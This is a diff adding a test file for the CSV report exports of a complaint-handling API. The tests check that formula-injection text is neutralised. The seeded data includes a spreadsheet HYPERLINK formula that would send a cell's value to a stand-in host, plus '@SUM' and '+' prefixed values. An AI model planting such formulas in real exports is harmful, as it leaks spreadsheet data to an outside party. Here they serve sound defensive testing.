@@ -1,0 +1,172 @@
+import { parse } from 'csv-parse/sync';
+import { inArray } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { writeProjection } from '../activities/projection';
+import { neutralise, toCsv, type Column } from '../api/csv';
+import { monthBounds } from '../db/reports';
+import { complaints } from '../db/schema';
+import { shanghaiDate } from '../workflows/calendar';
+import { newCase } from '../workflows/case';
+import type { Complaint } from '../workflows/model';
+import { projectionOf, type CaseProjection } from '../workflows/projection';
+import { bearer, keys, startApiHarness, type ApiHarness } from './helpers/api';
+import { makeComplaint, uniqueId, workflowInput } from './helpers/cases';
+
+const DAY = 86_400_000;
+const BOM = '\uFEFF';
+
+let h: ApiHarness;
+const ids: string[] = [];
+
+/** Writes a case row as the workflow would project it, with the given facts (as in read-side.test.ts). */
+async function seed(complaint: Partial<Complaint>, registeredAt: Date, facts: Partial<CaseProjection> = {}): Promise<string> {
+  const c = makeComplaint({ id: uniqueId('csv'), ...complaint });
+  const projection = { ...projectionOf(newCase(workflowInput(c), registeredAt.toISOString()), `complaint-${c.id}`), ...facts };
+  await writeProjection(h.database.db, projection, 1);
+  ids.push(c.id);
+  return c.id;
+}
+
+// Text an attacker controls (district, polluter, unit), each starting with a formula character.
+const district = `=HYPERLINK("http://x.example/"&A1)-${uniqueId('d')}`;
+const shrinking = `=${uniqueId('shrinking')}`;
+const polluter = `@SUM(1+1)-${uniqueId('p')}`;
+const unit = `+${uniqueId('unit')}`;
+const month = shanghaiDate(Date.now()).slice(0, 7);
+const from = shanghaiDate(Date.now() - 20 * DAY);
+const to = shanghaiDate(Date.now() + DAY);
+let oldCase = '';
+
+beforeAll(async () => {
+  h = await startApiHarness('reports-csv');
+  const now = Date.now();
+  // This month: two wechat noise reports about one polluter in the formula district.
+  const here = { location: { address: `甲路 ${uniqueId('a')} 号`, district }, polluter, channel: 'wechat' as const, category: 'noise' };
+  await seed(here, new Date(now - 60_000));
+  await seed(here, new Date(now - 120_000));
+  // The month before: one report in a district with none this month, so its change is -1.
+  const previousMonth = new Date(monthBounds(month).start.getTime() - DAY);
+  await seed({ location: { address: `乙路 ${uniqueId('b')} 号`, district: shrinking } }, previousMonth, { registeredAt: previousMonth.toISOString() });
+  // An open case older than any other, overdue at a unit whose code starts with `+`.
+  oldCase = await seed({ location: { address: `丙路 ${uniqueId('c')} 号`, district: uniqueId('old') } }, new Date(now - 60_000), {
+    registeredAt: '2005-01-03T02:00:00.000Z',
+    status: 'in_progress',
+    overdue: true,
+    handlingUnit: unit,
+  });
+});
+
+afterAll(async () => {
+  if (ids.length > 0) await h?.database.db.delete(complaints).where(inArray(complaints.id, ids));
+  await h?.close();
+});
+
+const get = (url: string, accept = 'application/json') => h.app.inject({ method: 'GET', url, headers: { ...bearer(keys.supervisor), accept } });
+const rowsOf = (body: string) => parse(body, { bom: true, columns: true }) as Record<string, string>[];
+
+describe('the CSV helper', () => {
+  it("puts a ' before text starting with =, +, -, @, tab or CR, and leaves numbers (negative too) as numbers", () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutralise(`${start}1+1`)).toBe(`'${start}1+1`);
+    expect(neutralise('南城 =1')).toBe('南城 =1');
+    const columns: Column<{ text: string; n: number }>[] = [
+      { header: { 'zh-CN': '文本', en: 'text' }, cell: (r) => r.text },
+      { header: { 'zh-CN': '数量', en: 'n' }, cell: (r) => r.n },
+    ];
+    const csv = toCsv(columns, [{ text: '-2', n: -3 }, { text: 'a\nb', n: 0 }], 'en');
+    // A lone LF inside a cell is quoted, or Excel would start a new record there.
+    expect(csv).toBe(`${BOM}text,n\r\n'-2,-3\r\n"a\nb",0\r\n`);
+  });
+});
+
+describe('CSV reports', () => {
+  it('start with a BOM, come as a dated download, and speak Chinese by default', async () => {
+    const response = await get(`/reports/kpi?from=${from}&to=${to}&district=${encodeURIComponent(district)}`, 'text/csv');
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(response.headers['content-disposition']).toBe(`attachment; filename="kpi-${from}_${to}.csv"`);
+    expect(response.body.split('\r\n')[0]).toBe(`${BOM}指标,分子,分母,比率`);
+    expect(rowsOf(response.body).map((r) => r['指标'])).toEqual(['及时受理率', '按期办结率', '办理规范率', '群众满意率']);
+  });
+
+  it('answer ?format=csv without an Accept header, and format=json wins over Accept with the JSON as before', async () => {
+    const url = `/reports/kpi?from=${from}&to=${to}&district=${encodeURIComponent(district)}`;
+    const csv = await h.app.inject({ method: 'GET', url: `${url}&format=csv`, headers: bearer(keys.supervisor) });
+    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
+    expect(rowsOf(csv.body)).toHaveLength(4);
+    const json = await get(url);
+    const forced = await get(`${url}&format=json`, 'text/csv');
+    expect(forced.headers['content-type']).toMatch(/^application\/json/);
+    expect(forced.headers['content-disposition']).toBeUndefined();
+    expect(forced.json()).toEqual(json.json());
+    expect(json.json().timelyAcceptance).toEqual({ numerator: 0, denominator: 0, value: null });
+  });
+
+  it('neutralise formula text in the monthly counts, keep the change numeric, and translate channels and categories', async () => {
+    const response = await get(`/reports/monthly?month=${month}&format=csv`);
+    expect(response.headers['content-disposition']).toBe(`attachment; filename="monthly-${month}.csv"`);
+    const rows = rowsOf(response.body);
+    expect(Object.keys(rows[0] ?? {})).toEqual(['维度', '项目', '数量', '上月', '变化']);
+    expect(rows).toContainEqual({ 维度: '区县', 项目: `'${district}`, 数量: '2', 上月: '0', 变化: '2' });
+    expect(rows).toContainEqual({ 维度: '区县', 项目: `'${shrinking}`, 数量: '0', 上月: '1', 变化: '-1' });
+    expect(rows.find((r) => r['维度'] === '渠道' && r['项目'] === '微信')).toBeDefined();
+    expect(rows.find((r) => r['维度'] === '类别' && r['项目'] === '噪声')).toBeDefined();
+    // No raw code is left where a label exists.
+    expect(rows.some((r) => r['项目'] === 'wechat' || r['项目'] === 'noise')).toBe(false);
+  });
+
+  it('keep English headers and codes with lang=en, still neutralised', async () => {
+    const response = await get(`/reports/monthly?month=${month}&format=csv&lang=en`);
+    const rows = rowsOf(response.body);
+    expect(response.body.startsWith(`${BOM}dimension,key,count,previous,change\r\n`)).toBe(true);
+    expect(rows).toContainEqual({ dimension: 'district', key: `'${district}`, count: '2', previous: '0', change: '2' });
+    expect(rows.find((r) => r.dimension === 'channel' && r.key === 'wechat')).toBeDefined();
+  });
+
+  it('neutralise a polluter in the hotspots', async () => {
+    const response = await get(`/reports/hotspots?from=${from}&to=${to}&format=csv`);
+    expect(response.headers['content-disposition']).toBe(`attachment; filename="hotspots-${from}_${to}.csv"`);
+    const rows = rowsOf(response.body);
+    expect(rows.find((r) => r['名称'] === `'${polluter}`)).toMatchObject({ 类型: '污染源', 数量: '2' });
+    expect(rows.some((r) => r['名称'] === polluter)).toBe(false);
+  });
+
+  it('list the oldest open cases in the backlog with Chinese statuses, and the unit neutralised', async () => {
+    const before = shanghaiDate(Date.now());
+    const response = await get('/reports/backlog?olderThanDays=3650&format=csv');
+    const after = shanghaiDate(Date.now());
+    expect([`attachment; filename="backlog-${before}.csv"`, `attachment; filename="backlog-${after}.csv"`]).toContain(
+      response.headers['content-disposition'],
+    );
+    const rows = rowsOf(response.body);
+    expect(rows.find((r) => r['项目'] === oldCase)).toEqual({
+      分类: '积案明细',
+      项目: oldCase,
+      数量: '',
+      状态: '办理中',
+      登记时间: '2005-01-03 10:00:00',
+      承办单位: `'${unit}`,
+    });
+    expect(rows.find((r) => r['分类'] === '超期' && r['项目'] === `'${unit}`)?.['数量']).toBe('1');
+    const en = rowsOf((await get('/reports/backlog?olderThanDays=3650&format=csv&lang=en')).body);
+    expect(en.find((r) => r.key === oldCase)).toMatchObject({ section: 'oldest', status: 'in_progress', registeredAt: '2005-01-03T02:00:00.000Z' });
+  });
+
+  it('give exactly the header row for an empty period', async () => {
+    const monthly = await get('/reports/monthly?month=2001-01&format=csv');
+    expect(monthly.statusCode).toBe(200);
+    expect(monthly.body).toBe(`${BOM}维度,项目,数量,上月,变化\r\n`);
+    const hotspots = await get('/reports/hotspots?from=2001-01-01&to=2001-01-31&format=csv&lang=en');
+    expect(hotspots.body).toBe(`${BOM}type,key,label,count,previous\r\n`);
+  });
+
+  it('declare format and lang on every report, and CSV as a response, in the OpenAPI document', async () => {
+    const doc = (await h.app.inject({ method: 'GET', url: '/openapi.json' })).json();
+    for (const path of ['/reports/kpi', '/reports/monthly', '/reports/hotspots', '/reports/backlog']) {
+      const operation = doc.paths[path].get;
+      const names = (operation.parameters as { name: string; in: string }[]).filter((p) => p.in === 'query').map((p) => p.name);
+      expect(names, path).toEqual(expect.arrayContaining(['format', 'lang']));
+      expect(Object.keys(operation.responses['200'].content), path).toEqual(['application/json', 'text/csv']);
+    }
+  });
+});
